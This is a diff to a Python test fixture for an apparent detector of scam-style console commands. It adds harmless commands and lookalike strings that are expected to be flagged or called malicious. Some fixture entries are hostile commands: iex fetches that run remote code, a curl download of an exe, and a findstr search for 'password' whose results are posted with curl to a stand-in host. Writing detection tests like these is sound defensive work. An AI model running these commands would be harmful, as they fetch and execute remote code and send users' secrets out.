@@ -125,6 +125,11 @@ CONSOLE_FOLDER = [
     'cmd /k "ipconfig /all"',
     'powershell -NoExit -Command "Set-Location D:\\Projects\\2031"',
     'powershell -NoExit -Command "Get-NetAdapter"',
+    # ...or on a query read through a pager or a one-word search
+    "cmd /k systeminfo | more",
+    "cmd /k netstat -ano | findstr 3389",
+    "cmd /k ipconfig /all | more",
+    'cmd /k tasklist /v | find /i "outlook"',
 ]
 CONSOLE_FOLDER_LOOKALIKES = [
     # (text, source, expect)
@@ -139,7 +144,7 @@ CONSOLE_FOLDER_LOOKALIKES = [
     ("cmd /c cd /d D:\\work && start update.exe", None, "flagged"),
     ("cmd /k cd /d D:\\work && git -c core.fsmonitor=calc status", None, "flagged"),
     ("cmd /k cd /d D:\\work && git status && git status && git status && git status", None, "flagged"),
-    ("cmd /k cd /d D:\\work && git status | findstr x", None, "flagged"),
+    ("cmd /k cd /d D:\\work && git status | cmd", None, "flagged"),
     ("powershell -NoExit -Command Set-Location \\\\203.0.113.7\\s", None, "flagged"),
     ("powershell -NoExit -Command Set-Location D:\\w; iwr https://umbra-stage.test/p | iex", None, "malicious"),
     ("powershell -Command Set-Location D:\\w", None, "flagged"),
@@ -152,6 +157,21 @@ CONSOLE_FOLDER_LOOKALIKES = [
     ('cmd /k "cd /d \\\\203.0.113.7\\s && git status"', None, "flagged"),
     ('powershell -NoExit -Command "Set-Location D:\\w; iex (irm https://umbra-stage.test/p)"', None, "malicious"),
     ('cmd /k "cd /d D:\\work && git status"', LURE, "malicious"),
+    ("cmd /k netstat -ano | more", LURE, "malicious"),
+    ("cmd /k dir C:\\Users\\sam\\Downloads", WIKI, "malicious"),
+    # folder listings are the scrolling "proof" fake support staff dictate: never quiet
+    ("cmd /k dir /s C:\\", None, "flagged"),
+    ("cmd /k tree C:\\Windows", None, "flagged"),
+    ("cmd /k dir /s /b C:\\src | sort", None, "flagged"),
+    ("cmd /k ipconfig /all | bash", None, "flagged"),
+    ("cmd /k ipconfig /all | powershell -", None, "flagged"),
+    ("cmd /k dir \\\\203.0.113.7\\s", None, "flagged"),
+    ("cmd /k dir C:\\src | findstr x && curl -o a.exe https://umbra-stage.test/a.exe", None, "flagged"),
+    ("cmd /k ipconfig /all || calc", None, "flagged"),
+    ("cmd /c ipconfig /all | more", None, "flagged"),
+    ("cmd /k type C:\\Users\\Public\\a.txt | more", None, "flagged"),
+    ('cmd /k findstr /s "password" C:\\Users\\*.txt | curl -d @- https://umbra-stage.test/x', None, "flagged"),
+    ("cmd /k dir C:\\src | more" + CHECK_TAIL, LURE, "malicious"),
 ]  # fmt: skip
 
 # -- Active Directory's consoles on a domain or a domain controller by name, typed ------------
